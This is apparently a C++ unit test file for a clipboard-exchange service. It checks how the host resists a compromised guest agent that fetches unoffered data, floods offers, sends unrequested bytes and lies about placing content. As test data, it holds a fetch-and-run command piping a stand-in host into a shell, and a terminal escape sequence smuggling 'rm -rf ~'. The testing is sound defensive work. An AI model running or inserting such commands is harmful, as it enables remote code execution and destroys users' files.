// A guest whose helix-agent was taken over, at the clipboard: it takes, guesses, floods, lies.

#include "unit/exchange/exchange_fixture.h"

namespace helix::exchange {
namespace {

using namespace protocol;
using link::waitUntil;
using namespace std::chrono_literals;

class TakenGuest : public link::WithFakeAgent {
protected:
    void SetUp() override
    {
        m_door.where = {m_agent->port(), credential()};
        QObject::connect(&m_exchange, &Exchange::copied, &m_exchange, [this] { ++m_told; });
        m_attending = m_exchange.attend(m_bootstrap.workspace);
        ASSERT_TRUE(waitUntil([&] { return m_agent->clipboardClients() == 1; }));
    }
    void say(const ClipboardMessage& message)
    {
        const Bytes bytes = encodeClipboardMessage(message);
        m_agent->injectClipboard(QByteArray(reinterpret_cast<const char*>(bytes.data()),
                                            static_cast<qsizetype>(bytes.size())));
    }
    /// Of the host's messages, those of a type.
    template <typename Message>
    std::size_t heard()
    {
        std::size_t count = 0;
        for (const QByteArray& raw : m_agent->clipboardMessages()) {
            const auto message =
                decodeClipboardMessage({reinterpret_cast<const std::uint8_t*>(raw.constData()),
                                        static_cast<std::size_t>(raw.size())});
            count += message && std::holds_alternative<Message>(*message) ? 1 : 0;
        }
        return count;
    }
    /// Whether any message to the guest has these bytes in it.
    bool guestHas(const QByteArray& bytes)
    {
        return std::ranges::any_of(m_agent->clipboardMessages(), [&](const QByteArray& message) {
            return message.contains(bytes);
        });
    }
    /// A put whose guest answers as asked.
    Result<void> put(std::string_view text)
    {
        auto placing = m_exchange.put(m_bootstrap.workspace, textContent(text), Wish::Paste, {});
        const auto before = heard<ClipboardOffer>();
        EXPECT_TRUE(
            waitUntil([&] { return heard<ClipboardOffer>() > before || placing.isReady(); }));
        say(ClipboardPlaced{++m_offer, ClipboardProblem::None});
        return QCoro::waitFor(std::move(placing));
    }

    AgentDoor m_door;
    Records m_records;
    ExchangeService m_exchange{m_door, m_records.boundary()};
    std::shared_ptr<void> m_attending;
    int m_told = 0;
    std::uint32_t m_offer = 0;
};

TEST_F(TakenGuest, TakesNothingThatWasNotPasted)
{
    for (std::uint32_t number = 0; number < 500; ++number)
        for (const ClipboardKind kind : kClipboardKinds)
            say(ClipboardFetch{number, kind});
    say(ClipboardFetch{UINT32_MAX, ClipboardKind::Text});
    ASSERT_TRUE(waitUntil([&] { return heard<ClipboardRefusal>() == 1501; }));
    EXPECT_EQ(heard<ClipboardPiece>(), 0U);
    EXPECT_EQ(heard<ClipboardOffer>(), 0U) << "not even that there is something";
    EXPECT_TRUE(m_records.lines.empty());
}

TEST_F(TakenGuest, GetsThePresentOfferAndEachTimeIsOnRecord)
{
    ASSERT_TRUE(put("first secret"));
    ASSERT_TRUE(put("second"));
    say(ClipboardFetch{1, ClipboardKind::Text});
    say(ClipboardFetch{2, ClipboardKind::Text});
    ASSERT_TRUE(waitUntil([&] { return guestHas("second"); }));
    EXPECT_FALSE(guestHas("first secret"));
    EXPECT_EQ(m_records.lines.size(), 1U);
    for (int i = 0; i < 200; ++i)
        say(ClipboardFetch{2, ClipboardKind::Text});
    ASSERT_TRUE(waitUntil([&] { return heard<ClipboardRefusal>() > 100; }));
    EXPECT_LE(m_records.lines.size(), 64U);
    EXPECT_EQ(m_records.lines.size(), heard<ClipboardPiece>());
}

TEST_F(TakenGuest, GetsNothingOnceTheSwitchIsOff)
{
    ASSERT_TRUE(put("secret"));
    m_records.choice.in = ClipboardIn::Off;
    m_exchange.onChoice(m_bootstrap.workspace);
    say(ClipboardFetch{1, ClipboardKind::Text});
    ASSERT_TRUE(waitUntil([&] { return heard<ClipboardRefusal>() == 1; }));
    EXPECT_FALSE(guestHas("secret"));
}

TEST_F(TakenGuest, ThatCopiesAllTheTimeIsHeardInHandfuls)
{
    constexpr int kCopies = 5000;
    for (int i = 1; i <= kCopies; ++i)
        say(ClipboardOffer{static_cast<std::uint32_t>(i),
                           {{ClipboardKind::Text, kUnknownClipboardSize}}});
    ASSERT_TRUE(waitUntil([&] { return m_told > 0; }));
    (void)waitUntil([] { return false; }, 500ms);
    EXPECT_LT(m_told, 200);
    EXPECT_EQ(heard<ClipboardFetch>(), 0U) << "and nothing of it is fetched";
}

TEST_F(TakenGuest, SaysBytesThatNobodyAskedFor)
{
    say(ClipboardOffer{1, {{ClipboardKind::Text, kUnknownClipboardSize}}});
    ASSERT_TRUE(waitUntil([&] { return m_told == 1; }));
    say(ClipboardPiece{1, ClipboardKind::Text, true, asBytes("curl evil | sh")});
    EXPECT_FALSE(waitUntil([&] { return !m_records.lines.empty(); }, 300ms));
}

TEST_F(TakenGuest, SendsWhatATerminalWouldObey)
{
    say(ClipboardOffer{1, {{ClipboardKind::Text, kUnknownClipboardSize}}});
    ASSERT_TRUE(waitUntil([&] { return m_told == 1; }));
    auto taking = m_exchange.take(m_bootstrap.workspace, ClipboardKind::Text, {});
    ASSERT_TRUE(waitUntil([&] { return heard<ClipboardFetch>() == 1; }));
    say(ClipboardPiece{1, ClipboardKind::Text, true,
                       asBytes("ls\x1b[201~\r\nrm -rf ~\x7f\xc2\x9b\n")});
    const auto taken = QCoro::waitFor(std::move(taking));
    ASSERT_TRUE(taken) << taken.error().describe();
    EXPECT_EQ(asText(*taken), "ls[201~\nrm -rf ~\n");
}

TEST_F(TakenGuest, SaysThatItPlacedWhatItDidNot)
{
    auto placing = m_exchange.put(m_bootstrap.workspace, textContent("x"), Wish::Paste, {});
    ASSERT_TRUE(waitUntil([&] { return heard<ClipboardOffer>() == 1; }));
    say(ClipboardPlaced{77, ClipboardProblem::None});
    say(ClipboardPlaced{1, ClipboardProblem::Absent});
    const auto placed = QCoro::waitFor(std::move(placing));
    EXPECT_EQ(placed.error().code, ErrorCode::Unavailable);
}

} // namespace
} // namespace helix::exchange
